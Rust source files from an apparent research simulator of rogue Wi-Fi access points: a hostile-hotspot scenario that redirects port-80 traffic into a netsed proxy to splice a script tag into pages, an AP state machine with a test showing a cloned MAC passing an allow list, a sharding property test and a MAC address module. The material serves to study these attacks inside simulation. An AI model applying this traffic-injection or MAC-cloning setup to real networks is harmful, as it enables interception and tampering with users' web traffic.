        host.ip_forward = true;
        host.netfilter.add_snat(SnatRule {
            out_ifindex: wan_if,
            src_net: Some((Ipv4Addr::new(10, 1, 0, 0), 24)),
            to_ip: None,
        });
    }
    let mut netsed_app = None;
    if cfg.hostile {
        // Tamper with ALL web traffic: DNAT *:80 into a local netsed
        // that splices a script tag before </body>.
        let host = world.host_mut(hotspot);
        host.netfilter.add_dnat(DnatRule {
            proto: Some(proto::TCP),
            dst: None,
            dport: Some(80),
            to: (hotspot_addrs::HOTSPOT_LAN, 10101),
        });
        let rules = vec![rogue_services::netsed::NetsedRule::new(
            "</body>",
            &format!("{HOTSPOT_INJECT}</body>"),
        )];
        let netsed = Netsed::new(10101, (hotspot_addrs::NEWS, 80), rules);
        netsed_app = Some(world.add_app(hotspot, Box::new(netsed)));
    }
    let _ = lan_if;

    // The traveller.
    let victim = world.add_node("traveller");
    let sta_cfg = StaConfig::typical(MacAddr::local(55), "FreeAirportWiFi", None);
    let (victim_radio, victim_iface) = world.add_sta(
        victim,
        Pos::new(10.0, 0.0),
        15.0,
        sta_cfg,
        hotspot_addrs::TRAVELLER,
        24,
    );

    // VPN home endpoint + provisioning.
    let mut vpn_psk = [0u8; PSK_LEN];
    rng.fill_bytes(&mut vpn_psk);
    if let Some(transport) = cfg.victim_vpn {
        let home = world.add_node("home-vpn");
        let home_wired =
            world.add_wired_iface(home, inet, MacAddr::local(72), hotspot_addrs::HOME_VPN, 8);
        let home_tun = world.add_tun_iface(home, MacAddr::local(201), addrs::ENDPOINT_TUN, 24);
        {
            let host = world.host_mut(home);
            host.ip_forward = true;
            host.netfilter.add_snat(SnatRule {
                out_ifindex: home_wired,
                src_net: Some((Ipv4Addr::new(10, 8, 0, 0), 24)),
                to_ip: None,
            });
        }
        let server = VpnServer::new(
            VpnServerConfig {
                port: 4500,
                transport,
                accounts: [(
                    7,
                    ClientAccount {
                        psk: vpn_psk,
                        tun_ip: addrs::VICTIM_TUN,
                    },
                )]
                .into_iter()
                .collect(),
                tun_ifindex: home_tun,
                tun_peer_mac: MacAddr::local(101),
            },
            rng.fork(0xE9),
        );
        world.attach_vpn_server(home, home_tun, server);

        let v_tun = world.add_tun_iface(victim, MacAddr::local(101), addrs::VICTIM_TUN, 24);
        {
            let host = world.host_mut(victim);
            // The encapsulated transport rides the hotspot; everything
            // else goes into the tunnel.
            host.routes.add(rogue_netstack::routing::Route {
                network: hotspot_addrs::HOME_VPN,
                prefix_len: 32,
                gateway: Some(hotspot_addrs::HOTSPOT_LAN),
                ifindex: victim_iface,
            });
            host.routes.add_default(addrs::ENDPOINT_TUN, v_tun);
        }
        let client = VpnClient::new(
            VpnClientConfig {
                server: (hotspot_addrs::HOME_VPN, 4500),
                psk: vpn_psk,
                client_id: 7,
                transport,
                tun_ifindex: v_tun,
                tun_gateway_ip: addrs::ENDPOINT_TUN,
                tun_gateway_mac: MacAddr::local(201),
                start_at: SimTime::from_millis(100),
            },
            rng.fork(0xEA),
        );
        world.attach_vpn_client(victim, v_tun, client);
    } else {
        world
            .host_mut(victim)
            .routes
            .add_default(hotspot_addrs::HOTSPOT_LAN, victim_iface);
    }

    HotspotScenario {
        world,
        victim,
        victim_radio,
        hotspot,
        netsed_app,
        news_server: (news_node, news_app),
        genuine_page,
        injected_script: HOTSPOT_INJECT,
        vpn_psk,
    }
}
