//! Property test of the parallel-dispatch contract (DESIGN.md §17): for
//! ANY cross-shard traffic pattern, the outbox-merge barrier must replay
//! shared-state effects in exactly the serial `(time, seq)` dispatch
//! order. The golden reports pin a handful of curated scenarios; this
//! test lets the generator hunt for the interleaving that breaks the
//! commit order — same-instant bursts on different shards, frames whose
//! audible disc straddles a stripe boundary, and mid-window kicks that
//! mutate the poll queue between lockstep windows.
//!
//! Each random `u64` word contributes one station (position, home AP,
//! staggered start) and one run segment (length + which node gets
//! kicked mid-stream), so a 6..14-word case exercises 6..14 windowsful
//! of mixed association, DHCP/ARP chatter and poll churn. Stations are
//! anchored near their AP so every case has live traffic, and two extra
//! stations are pinned just inside each side of the stripe boundary
//! (via [`RegionMap::stripe_span`]) so boundary crossings happen in
//! every case, not just when the generator gets lucky.

use proptest::prelude::*;
use rogue_core::world::{with_default_shards, World};
use rogue_dot11::{ApConfig, MacAddr, StaConfig};
use rogue_phy::{MediumParams, Pos, RegionMap};
use rogue_sim::{Seed, SimDuration, SimTime};
use std::net::Ipv4Addr;

/// Three fixed-channel BSSes, one per third of the x-extent. 500 m of
/// separation keeps the APs mutually inaudible while the ~200 m audible
/// disc of the middle AP reaches across both 2-region and 3-region
/// stripe edges.
const AP_X: [f64; 3] = [100.0, 600.0, 1100.0];
const AP_CHANNEL: [u8; 3] = [1, 6, 11];
const SSID: [&str; 3] = ["NET-A", "NET-B", "NET-C"];
const EXTENT: (f64, f64) = (0.0, 1200.0);

/// Everything the serial and sharded runs must agree on, bit for bit.
#[derive(Debug, PartialEq)]
struct Fingerprint {
    mac_trace: Vec<String>,
    frames_sent: u64,
    halfduplex_misses: u64,
    sinr_drops: u64,
    events_dispatched: u64,
    app_events: usize,
}

/// Build the word-derived world and run it segment by segment with
/// mid-window kicks, under `threads` rayon workers and `shards` queue
/// shards (1 = the serial reference loop).
fn run(words: &[u64], shards: usize, threads: usize) -> Fingerprint {
    rayon::with_num_threads(threads, || {
        with_default_shards(shards, || {
            let mut w = World::new(Seed(0xB0C5), MediumParams::default());
            if shards > 1 {
                // Narrow windows so segments span many window barriers.
                w.set_shard_window(SimDuration::from_micros(500));
            }
            for i in 0..3 {
                let ap = w.add_node(SSID[i]);
                w.add_ap_local_starting_at(
                    ap,
                    Pos::new(AP_X[i], 0.0),
                    15.0,
                    ApConfig::typical(MacAddr::local(1 + i as u64), SSID[i], AP_CHANNEL[i], None),
                    Ipv4Addr::new(10, 0, i as u8, 1),
                    24,
                    SimTime::from_micros(137 * i as u64),
                );
            }
            // Two stations hugging the first interior stripe edge of the
            // 2-region partition (the map is an approximation of the
            // world's own radio-extent-derived partition — close enough
            // that their traffic provably crosses stripes either way).
            let map = RegionMap::new(2, EXTENT.0, EXTENT.1);
            let (_, edge) = map.stripe_span(0);
            let mut stas = Vec::new();
            for (j, x) in [edge - 1.0, edge + 1.0].into_iter().enumerate() {
                let n = w.add_node("edge-sta");
                w.add_sta(
                    n,
                    Pos::new(x, 4.0),
                    15.0,
                    StaConfig::typical(MacAddr::local(50 + j as u64), SSID[1], None),
                    Ipv4Addr::new(10, 0, 1, 50 + j as u8),
                    24,
                );
                stas.push(n);
            }
            for (i, &word) in words.iter().enumerate() {
                let home = (word % 3) as usize;
                let dx = ((word >> 2) & 0x7F) as f64 - 64.0; // within earshot
                let dy = ((word >> 9) & 0x1F) as f64 - 16.0;
                let start_us = (word >> 14) & 0x1FFF; // 0..8 ms stagger
                let n = w.add_node("sta");
                w.add_sta_starting_at(
                    n,
                    Pos::new(AP_X[home] + dx, dy),
                    15.0,
                    StaConfig::typical(MacAddr::local(100 + i as u64), SSID[home], None),
                    Ipv4Addr::new(10, 0, home as u8, 100 + i as u8),
                    24,
                    SimTime::from_micros(start_us),
                );
                stas.push(n);
            }
            // Segmented run: each word picks a segment length and a node
            // to kick *between* run_until calls, i.e. mid-window from the
            // sharded loop's point of view.
            let mut t_us = 0u64;
            for &word in words {
                t_us += 20_000 + ((word >> 27) & 0xFFFF); // 20..85 ms
                w.run_until(SimTime::from_micros(t_us));
                let victim = ((word >> 43) as usize) % stas.len();
                w.kick(stas[victim]);
            }
            w.run_until(SimTime::from_micros(t_us + 300_000)); // settle
            Fingerprint {
                mac_trace: w
                    .mac_events
                    .iter()
                    .map(|(t, n, e)| format!("{} {} {:?}", t.as_nanos(), n.0, e))
                    .collect(),
                frames_sent: w.medium.frames_sent,
                halfduplex_misses: w.medium.halfduplex_misses,
                sinr_drops: w.medium.sinr_drops,
                events_dispatched: w.events_dispatched(),
                app_events: w.app_events.len(),
            }
        })
    })
}

proptest! {
    #[test]
    fn outbox_merge_matches_serial_dispatch_order(
        words in proptest::collection::vec(any::<u64>(), 6..14),
    ) {
        let baseline = run(&words, 1, 1);
        // Liveness floor: a case with no MAC milestones or no frames on
        // the air would make the equality below vacuous.
        prop_assert!(
            !baseline.mac_trace.is_empty() && baseline.frames_sent > 0,
            "inert world: {:?}",
            baseline
        );
        for (shards, threads) in [(2, 1), (2, 4), (3, 4)] {
            let sharded = run(&words, shards, threads);
            prop_assert_eq!(&baseline, &sharded, "shards={} threads={}", shards, threads);
        }
    }
}
