//! Access-point state machine.
//!
//! A *rogue* AP is not special code: it is this same state machine
//! configured with a cloned SSID — and, as in the paper's Figure 1, a
//! cloned BSSID and WEP key. "It will emulate a valid AP as best it can"
//! (§4); here the emulation is perfect because it *is* the same machine.

use std::collections::{HashMap, HashSet};

use bytes::Bytes;
use rogue_crypto::wep::{self, IvPolicy, IvSource, WepKey};
use rogue_phy::Bitrate;
use rogue_sim::{SimDuration, SimRng, SimTime};

use crate::addr::MacAddr;
use crate::frame::{
    decode_llc, encode_llc, Frame, FrameBody, MgmtInfo, CAP_ESS, CAP_PRIVACY, LLC_SNAP_LEN,
};
use crate::output::{MacEvent, MacOutput};
use crate::txq::TxQueue;

/// Access-point configuration.
#[derive(Clone, Debug)]
pub struct ApConfig {
    /// BSSID to advertise. A legitimate AP uses its own address; the
    /// paper's rogue clones the victim network's (`AP MAC: AA:BB:CC:DD`
    /// on *both* APs in Figure 1).
    pub bssid: MacAddr,
    /// Network name.
    pub ssid: String,
    /// Operating channel (Figure 1: valid AP on 1, rogue on 6).
    pub channel: u8,
    /// Beacon period.
    pub beacon_interval: SimDuration,
    /// WEP key, if privacy is enabled.
    pub wep: Option<WepKey>,
    /// MAC-address allow list; `None` disables filtering. ("MAC Address
    /// filtering … accomplishes nothing more than perhaps keeping honest
    /// people honest", §2.1 — the reproduction measures exactly that.)
    pub acl: Option<HashSet<MacAddr>>,
}

impl ApConfig {
    /// A typical AP for network `ssid` on `channel`.
    pub fn typical(bssid: MacAddr, ssid: &str, channel: u8, wep: Option<WepKey>) -> ApConfig {
        ApConfig {
            bssid,
            ssid: ssid.to_string(),
            channel,
            beacon_interval: SimDuration::from_millis(100),
            wep,
            acl: None,
        }
    }
}

/// The AP MAC entity.
pub struct ApMac {
    cfg: ApConfig,
    txq: TxQueue,
    iv: IvSource,
    rng: SimRng,
    clients: HashMap<MacAddr, u16>,
    authed: HashSet<MacAddr>,
    next_beacon: SimTime,
    active_from: SimTime,
    next_aid: u16,
    dedup: HashMap<MacAddr, u16>,
    /// Data frames delivered upward (toward the bridge / router).
    pub data_rx: u64,
    /// Data frames queued downward to stations.
    pub data_tx: u64,
    /// Stations rejected by the ACL.
    pub acl_rejections: u64,
    /// Protected frames that failed to decrypt.
    pub wep_failures: u64,
}

impl ApMac {
    /// Create an AP; beaconing starts immediately.
    pub fn new(cfg: ApConfig, rng: SimRng, now: SimTime) -> ApMac {
        Self::new_starting_at(cfg, rng, now)
    }

    /// Create an AP that stays silent (no beacons, no responses) until
    /// `start_at` — a rogue brought up mid-run.
    pub fn new_starting_at(cfg: ApConfig, mut rng: SimRng, start_at: SimTime) -> ApMac {
        let txq = TxQueue::new(rng.fork(2));
        ApMac {
            iv: IvSource::new(IvPolicy::Sequential(0)),
            cfg,
            txq,
            rng,
            clients: HashMap::new(),
            authed: HashSet::new(),
            next_beacon: start_at,
            active_from: start_at,
            next_aid: 1,
            dedup: HashMap::new(),
            data_rx: 0,
            data_tx: 0,
            acl_rejections: 0,
            wep_failures: 0,
        }
    }

    /// Advertised BSSID.
    pub fn bssid(&self) -> MacAddr {
        self.cfg.bssid
    }

    /// Operating channel.
    pub fn channel(&self) -> u8 {
        self.cfg.channel
    }

    /// Currently associated client MACs.
    pub fn clients(&self) -> impl Iterator<Item = MacAddr> + '_ {
        self.clients.keys().copied()
    }

    /// Is `mac` associated?
    pub fn is_associated(&self, mac: MacAddr) -> bool {
        self.clients.contains_key(&mac)
    }

    fn capability(&self) -> u16 {
        let mut cap = CAP_ESS;
        if self.cfg.wep.is_some() {
            cap |= CAP_PRIVACY;
        }
        cap
    }

    fn mgmt_info(&self, now: SimTime) -> MgmtInfo {
        MgmtInfo {
            timestamp: now.as_micros(),
            beacon_interval_tu: (self.cfg.beacon_interval.as_micros() / 1024).max(1) as u16,
            capability: self.capability(),
            ssid: self.cfg.ssid.clone(),
            channel: self.cfg.channel,
        }
    }

    /// Earliest instant this entity needs a poll.
    pub fn next_wake(&self) -> SimTime {
        self.txq.next_wake().min(self.next_beacon)
    }

    /// Queue a data payload toward a station (or broadcast). Returns false
    /// when `dst` is unicast but not associated — the caller (bridge)
    /// forwards it to the wired side instead.
    pub fn send_data(
        &mut self,
        now: SimTime,
        src: MacAddr,
        dst: MacAddr,
        ethertype: u16,
        payload: &[u8],
    ) -> bool {
        let multicast = dst.is_multicast();
        if !multicast && !self.clients.contains_key(&dst) {
            return false;
        }
        let body = encode_llc(ethertype, payload);
        let (body, protected) = match &self.cfg.wep {
            Some(key) => {
                let entropy = self.rng.next_u32();
                let iv = self.iv.next_iv(entropy);
                (wep::seal(key, iv, 0, &body), true)
            }
            None => (body, false),
        };
        let mut f = Frame::new(
            dst,
            self.cfg.bssid,
            src,
            FrameBody::Data {
                payload: Bytes::from(body),
            },
        );
        f.from_ds = true;
        f.protected = protected;
        self.txq.push(now, f, Bitrate::B11, !multicast);
        self.data_tx += 1;
        true
    }

    /// Deauthenticate a station (ACL enforcement / administrative kick).
    pub fn deauth_client(&mut self, now: SimTime, client: MacAddr, reason: u16) {
        self.clients.remove(&client);
        self.authed.remove(&client);
        let f = Frame::new(
            client,
            self.cfg.bssid,
            self.cfg.bssid,
            FrameBody::Deauth { reason },
        );
        self.txq.push(now, f, Bitrate::B1, !client.is_multicast());
    }

    /// Handle a decoded PHY delivery.
    pub fn on_receive(
        &mut self,
        now: SimTime,
        bytes: &Bytes,
        _rssi_dbm: f64,
        _channel: u8,
        out: &mut Vec<MacOutput>,
    ) {
        let Ok(frame) = Frame::decode(bytes) else {
            return;
        };
        if now < self.active_from {
            return; // not powered up yet
        }
        if let FrameBody::Ack = frame.body {
            if frame.addr1 == self.cfg.bssid {
                self.txq.on_ack(now);
            }
            return;
        }

        // Probe requests are broadcast; everything else must target us.
        if let FrameBody::ProbeReq { ssid } = &frame.body {
            let matches = ssid.as_deref().is_none_or(|s| s == self.cfg.ssid);
            if matches {
                let f = Frame::new(
                    frame.addr2,
                    self.cfg.bssid,
                    self.cfg.bssid,
                    FrameBody::ProbeResp(self.mgmt_info(now)),
                );
                self.txq.push(now, f, Bitrate::B1, true);
            }
            return;
        }

        if frame.addr1 != self.cfg.bssid {
            return;
        }
        // ACK unicast frames addressed to us, with duplicate suppression.
        self.txq.emit_ack(now, frame.addr2, out);
        if frame.retry {
            if let Some(&last) = self.dedup.get(&frame.addr2) {
                if last == frame.seq {
                    return;
                }
            }
        }
        self.dedup.insert(frame.addr2, frame.seq);

        match frame.body.clone() {
            FrameBody::Auth { seq: 1, .. } => self.on_auth(now, frame.addr2, out),
            FrameBody::AssocReq { capability, ssid } => {
                self.on_assoc(now, frame.addr2, capability, &ssid, out)
            }
            FrameBody::Deauth { .. } | FrameBody::Disassoc { .. } => {
                self.clients.remove(&frame.addr2);
                self.authed.remove(&frame.addr2);
            }
            FrameBody::Data { payload } => self.on_data(&frame, payload, out),
            _ => {}
        }
    }

    fn acl_allows(&self, mac: MacAddr) -> bool {
        self.cfg.acl.as_ref().is_none_or(|acl| acl.contains(&mac))
    }

    fn on_auth(&mut self, now: SimTime, sta: MacAddr, out: &mut Vec<MacOutput>) {
        let status = if self.acl_allows(sta) {
            self.authed.insert(sta);
            0
        } else {
            self.acl_rejections += 1;
            out.push(MacOutput::Event(MacEvent::ClientRejected {
                client: sta,
                status: 1,
            }));
            1
        };
        let f = Frame::new(
            sta,
            self.cfg.bssid,
            self.cfg.bssid,
            FrameBody::Auth {
                algorithm: 0,
                seq: 2,
                status,
            },
        );
        self.txq.push(now, f, Bitrate::B1, true);
    }

    fn on_assoc(
        &mut self,
        now: SimTime,
        sta: MacAddr,
        capability: u16,
        ssid: &str,
        out: &mut Vec<MacOutput>,
    ) {
        let privacy_ok = (capability & CAP_PRIVACY != 0) == self.cfg.wep.is_some();
        let status = if !self.authed.contains(&sta) {
            1 // must authenticate first
        } else if ssid != self.cfg.ssid || !privacy_ok {
            10 // capability mismatch
        } else {
            0
        };
        let aid = if status == 0 {
            let aid = *self.clients.entry(sta).or_insert_with(|| {
                let a = self.next_aid;
                self.next_aid += 1;
                a
            });
            out.push(MacOutput::Event(MacEvent::ClientAssociated { client: sta }));
            aid
        } else {
            out.push(MacOutput::Event(MacEvent::ClientRejected {
                client: sta,
                status,
            }));
            0
        };
        let f = Frame::new(
            sta,
            self.cfg.bssid,
            self.cfg.bssid,
            FrameBody::AssocResp {
                capability: self.capability(),
                status,
                aid,
            },
        );
        self.txq.push(now, f, Bitrate::B1, true);
    }

    fn on_data(&mut self, frame: &Frame, payload: Bytes, out: &mut Vec<MacOutput>) {
        if !frame.to_ds || !self.clients.contains_key(&frame.addr2) {
            return;
        }
        // WEP genuinely decrypts into a fresh buffer; plaintext stays a
        // zero-copy view of the receive allocation.
        let plain: Bytes = if frame.protected {
            let Some(key) = &self.cfg.wep else {
                self.wep_failures += 1;
                return;
            };
            match wep::open(key, &payload) {
                Ok(p) => Bytes::from(p),
                Err(_) => {
                    self.wep_failures += 1;
                    out.push(MacOutput::Event(MacEvent::WepDecryptFailed {
                        from: frame.addr2,
                    }));
                    return;
                }
            }
        } else {
            if self.cfg.wep.is_some() {
                return;
            }
            payload
        };
        let Some((ethertype, _)) = decode_llc(&plain) else {
            return;
        };
        self.data_rx += 1;
        out.push(MacOutput::DeliverData {
            src: frame.sa(),
            dst: frame.da(),
            ethertype,
            payload: plain.slice(LLC_SNAP_LEN..),
        });
    }

    /// Drive timers: beacons and the transmit queue.
    pub fn poll(&mut self, now: SimTime, out: &mut Vec<MacOutput>) {
        self.txq.poll(now, out);
        while now >= self.next_beacon {
            let f = Frame::new(
                MacAddr::BROADCAST,
                self.cfg.bssid,
                self.cfg.bssid,
                FrameBody::Beacon(self.mgmt_info(now)),
            );
            self.txq.push(now, f, Bitrate::B1, false);
            self.next_beacon += self.cfg.beacon_interval;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rogue_sim::Seed;

    fn ap() -> ApMac {
        ApMac::new(
            ApConfig::typical(MacAddr::local(1), "CORP", 1, None),
            SimRng::new(Seed(1)),
            SimTime::ZERO,
        )
    }

    fn drive(ap: &mut ApMac, until: SimTime) -> Vec<MacOutput> {
        let mut all = Vec::new();
        loop {
            let wake = ap.next_wake();
            if wake > until || wake == SimTime::FOREVER {
                break;
            }
            let mut out = Vec::new();
            ap.poll(wake, &mut out);
            all.extend(out);
        }
        all
    }

    fn tx_frames(out: &[MacOutput]) -> Vec<Frame> {
        out.iter()
            .filter_map(|o| match o {
                MacOutput::Tx { bytes, .. } => Frame::decode(bytes).ok(),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn beacons_periodically() {
        let mut a = ap();
        let out = drive(&mut a, SimTime::from_millis(550));
        let beacons = tx_frames(&out)
            .into_iter()
            .filter(|f| matches!(f.body, FrameBody::Beacon(_)))
            .count();
        assert!((5..=7).contains(&beacons), "got {beacons} beacons in 550ms");
    }

    #[test]
    fn beacon_carries_ssid_channel_privacy() {
        let key = WepKey::new(b"AB#12");
        let mut a = ApMac::new(
            ApConfig::typical(MacAddr::local(1), "CORP", 6, Some(key)),
            SimRng::new(Seed(2)),
            SimTime::ZERO,
        );
        let out = drive(&mut a, SimTime::from_millis(150));
        let f = tx_frames(&out)
            .into_iter()
            .find(|f| matches!(f.body, FrameBody::Beacon(_)))
            .expect("a beacon");
        let FrameBody::Beacon(info) = f.body else {
            unreachable!()
        };
        assert_eq!(info.ssid, "CORP");
        assert_eq!(info.channel, 6);
        assert_ne!(info.capability & CAP_PRIVACY, 0);
    }

    #[test]
    fn full_join_handshake() {
        let mut a = ap();
        let sta = MacAddr::local(10);
        let mut out = Vec::new();

        let auth = Frame::new(
            a.bssid(),
            sta,
            a.bssid(),
            FrameBody::Auth {
                algorithm: 0,
                seq: 1,
                status: 0,
            },
        );
        a.on_receive(SimTime::from_millis(1), &auth.encode(), -50.0, 1, &mut out);
        let resp = drive(&mut a, SimTime::from_millis(50));
        let auth_resp = tx_frames(&resp)
            .into_iter()
            .find(|f| matches!(f.body, FrameBody::Auth { seq: 2, .. }))
            .expect("auth response");
        assert!(matches!(auth_resp.body, FrameBody::Auth { status: 0, .. }));

        let mut out = Vec::new();
        let assoc = Frame::new(
            a.bssid(),
            sta,
            a.bssid(),
            FrameBody::AssocReq {
                capability: CAP_ESS,
                ssid: "CORP".into(),
            },
        );
        a.on_receive(
            SimTime::from_millis(60),
            &assoc.encode(),
            -50.0,
            1,
            &mut out,
        );
        assert!(a.is_associated(sta));
        assert!(out
            .iter()
            .any(|o| matches!(o, MacOutput::Event(MacEvent::ClientAssociated { .. }))));
    }

    #[test]
    fn acl_refuses_unknown_macs_but_cloned_mac_passes() {
        let allowed = MacAddr::local(10);
        let mut cfg = ApConfig::typical(MacAddr::local(1), "CORP", 1, None);
        cfg.acl = Some([allowed].into_iter().collect());
        let mut a = ApMac::new(cfg, SimRng::new(Seed(3)), SimTime::ZERO);

        // Unknown MAC: refused.
        let outsider = MacAddr::local(66);
        let mut out = Vec::new();
        let auth = Frame::new(
            a.bssid(),
            outsider,
            a.bssid(),
            FrameBody::Auth {
                algorithm: 0,
                seq: 1,
                status: 0,
            },
        );
        a.on_receive(SimTime::from_millis(1), &auth.encode(), -50.0, 1, &mut out);
        assert_eq!(a.acl_rejections, 1);

        // The same attacker after sniffing and cloning the allowed MAC:
        // indistinguishable, passes. (§2.1's point.)
        let mut out = Vec::new();
        let auth = Frame::new(
            a.bssid(),
            allowed,
            a.bssid(),
            FrameBody::Auth {
                algorithm: 0,
                seq: 1,
                status: 0,
            },
        );
        a.on_receive(SimTime::from_millis(2), &auth.encode(), -50.0, 1, &mut out);
        assert!(a.authed.contains(&allowed));
    }

    #[test]
    fn assoc_requires_auth_first() {
        let mut a = ap();
        let sta = MacAddr::local(10);
        let mut out = Vec::new();
        let assoc = Frame::new(
            a.bssid(),
            sta,
            a.bssid(),
            FrameBody::AssocReq {
                capability: CAP_ESS,
                ssid: "CORP".into(),
            },
        );
        a.on_receive(SimTime::from_millis(1), &assoc.encode(), -50.0, 1, &mut out);
        assert!(!a.is_associated(sta));
        assert!(out
            .iter()
            .any(|o| matches!(o, MacOutput::Event(MacEvent::ClientRejected { .. }))));
    }

    #[test]
    fn probe_request_answered() {
        let mut a = ap();
        let mut out = Vec::new();
        let probe = Frame::new(
            MacAddr::BROADCAST,
            MacAddr::local(10),
            MacAddr::BROADCAST,
            FrameBody::ProbeReq { ssid: None },
        );
        a.on_receive(SimTime::from_millis(1), &probe.encode(), -50.0, 1, &mut out);
        let resp = drive(&mut a, SimTime::from_millis(50));
        assert!(tx_frames(&resp)
            .iter()
            .any(|f| matches!(f.body, FrameBody::ProbeResp(_))));
    }

    #[test]
    fn probe_for_other_ssid_ignored() {
        let mut a = ap();
        let mut out = Vec::new();
        let probe = Frame::new(
            MacAddr::BROADCAST,
            MacAddr::local(10),
            MacAddr::BROADCAST,
            FrameBody::ProbeReq {
                ssid: Some("OTHER".into()),
            },
        );
        a.on_receive(SimTime::from_millis(1), &probe.encode(), -50.0, 1, &mut out);
        let resp = drive(&mut a, SimTime::from_millis(50));
        assert!(!tx_frames(&resp)
            .iter()
            .any(|f| matches!(f.body, FrameBody::ProbeResp(_))));
    }

    #[test]
    fn uplink_data_from_associated_client_delivered() {
        let mut a = ap();
        let sta = join(&mut a, MacAddr::local(10));
        let mut f = Frame::new(
            a.bssid(),
            sta,
            MacAddr::local(77),
            FrameBody::Data {
                payload: Bytes::from(encode_llc(0x0800, b"uplink")),
            },
        );
        f.to_ds = true;
        f.seq = 3;
        let mut out = Vec::new();
        a.on_receive(SimTime::from_millis(100), &f.encode(), -50.0, 1, &mut out);
        let d = out.iter().find_map(|o| match o {
            MacOutput::DeliverData {
                src, dst, payload, ..
            } => Some((*src, *dst, payload.clone())),
            _ => None,
        });
        let (src, dst, payload) = d.expect("delivered");
        assert_eq!(src, sta);
        assert_eq!(dst, MacAddr::local(77));
        assert_eq!(&payload[..], b"uplink");
    }

    #[test]
    fn uplink_from_stranger_dropped() {
        let mut a = ap();
        let mut f = Frame::new(
            a.bssid(),
            MacAddr::local(66),
            MacAddr::local(77),
            FrameBody::Data {
                payload: Bytes::from(encode_llc(0x0800, b"evil")),
            },
        );
        f.to_ds = true;
        let mut out = Vec::new();
        a.on_receive(SimTime::from_millis(1), &f.encode(), -50.0, 1, &mut out);
        assert!(!out
            .iter()
            .any(|o| matches!(o, MacOutput::DeliverData { .. })));
    }

    #[test]
    fn downlink_unknown_dst_returns_false() {
        let mut a = ap();
        assert!(!a.send_data(
            SimTime::from_millis(1),
            MacAddr::local(50),
            MacAddr::local(10),
            0x0800,
            b"x"
        ));
        // Broadcast always accepted.
        assert!(a.send_data(
            SimTime::from_millis(1),
            MacAddr::local(50),
            MacAddr::BROADCAST,
            0x0806,
            b"arp"
        ));
    }

    #[test]
    fn deauth_client_removes_association() {
        let mut a = ap();
        let sta = join(&mut a, MacAddr::local(10));
        assert!(a.is_associated(sta));
        a.deauth_client(SimTime::from_millis(200), sta, 2);
        assert!(!a.is_associated(sta));
        let out = drive(&mut a, SimTime::from_millis(300));
        assert!(tx_frames(&out)
            .iter()
            .any(|f| matches!(f.body, FrameBody::Deauth { .. }) && f.addr1 == sta));
    }

    fn join(a: &mut ApMac, sta: MacAddr) -> MacAddr {
        let mut out = Vec::new();
        let auth = Frame::new(
            a.bssid(),
            sta,
            a.bssid(),
            FrameBody::Auth {
                algorithm: 0,
                seq: 1,
                status: 0,
            },
        );
        a.on_receive(SimTime::from_millis(1), &auth.encode(), -50.0, 1, &mut out);
        let mut assoc = Frame::new(
            a.bssid(),
            sta,
            a.bssid(),
            FrameBody::AssocReq {
                capability: CAP_ESS,
                ssid: "CORP".into(),
            },
        );
        assoc.seq = 1;
        a.on_receive(SimTime::from_millis(2), &assoc.encode(), -50.0, 1, &mut out);
        assert!(a.is_associated(sta));
        sta
    }
}
