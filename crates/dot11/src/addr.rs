//! IEEE 802 MAC addresses.

use std::fmt;
use std::str::FromStr;

/// A 48-bit MAC address.
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct MacAddr(pub [u8; 6]);

impl MacAddr {
    /// The broadcast address ff:ff:ff:ff:ff:ff.
    pub const BROADCAST: MacAddr = MacAddr([0xFF; 6]);

    /// The all-zero address (never valid on the air; useful as a sentinel).
    pub const ZERO: MacAddr = MacAddr([0; 6]);

    /// Deterministically generate a locally administered unicast address
    /// from an integer — used to hand out distinct addresses to simulated
    /// stations.
    pub const fn local(n: u64) -> MacAddr {
        MacAddr([
            0x02, // locally administered, unicast
            ((n >> 32) & 0xFF) as u8,
            ((n >> 24) & 0xFF) as u8,
            ((n >> 16) & 0xFF) as u8,
            ((n >> 8) & 0xFF) as u8,
            (n & 0xFF) as u8,
        ])
    }

    /// True for group (multicast/broadcast) addresses.
    pub fn is_multicast(self) -> bool {
        self.0[0] & 1 == 1
    }

    /// True for the broadcast address.
    pub fn is_broadcast(self) -> bool {
        self == Self::BROADCAST
    }

    /// Raw bytes.
    pub fn bytes(self) -> [u8; 6] {
        self.0
    }
}

impl fmt::Display for MacAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
            self.0[0], self.0[1], self.0[2], self.0[3], self.0[4], self.0[5]
        )
    }
}

impl fmt::Debug for MacAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{self}")
    }
}

/// Error parsing a MAC address from text.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ParseMacError;

impl fmt::Display for ParseMacError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid MAC address syntax")
    }
}

impl std::error::Error for ParseMacError {}

impl FromStr for MacAddr {
    type Err = ParseMacError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let mut out = [0u8; 6];
        let mut parts = s.split(':');
        for slot in &mut out {
            let p = parts.next().ok_or(ParseMacError)?;
            if p.len() != 2 {
                return Err(ParseMacError);
            }
            *slot = u8::from_str_radix(p, 16).map_err(|_| ParseMacError)?;
        }
        if parts.next().is_some() {
            return Err(ParseMacError);
        }
        Ok(MacAddr(out))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_round_trip() {
        let m = MacAddr([0xAA, 0xBB, 0xCC, 0x00, 0x11, 0x22]);
        assert_eq!(m.to_string(), "aa:bb:cc:00:11:22");
        assert_eq!("aa:bb:cc:00:11:22".parse::<MacAddr>().unwrap(), m);
    }

    #[test]
    fn parse_errors() {
        assert!("aa:bb:cc".parse::<MacAddr>().is_err());
        assert!("aa:bb:cc:dd:ee:ff:00".parse::<MacAddr>().is_err());
        assert!("aa:bb:cc:dd:ee:gg".parse::<MacAddr>().is_err());
        assert!("aabb:cc:dd:ee:ff".parse::<MacAddr>().is_err());
    }

    #[test]
    fn local_addresses_are_distinct_unicast() {
        let a = MacAddr::local(1);
        let b = MacAddr::local(2);
        assert_ne!(a, b);
        assert!(!a.is_multicast());
        assert!(!a.is_broadcast());
    }

    #[test]
    fn broadcast_properties() {
        assert!(MacAddr::BROADCAST.is_broadcast());
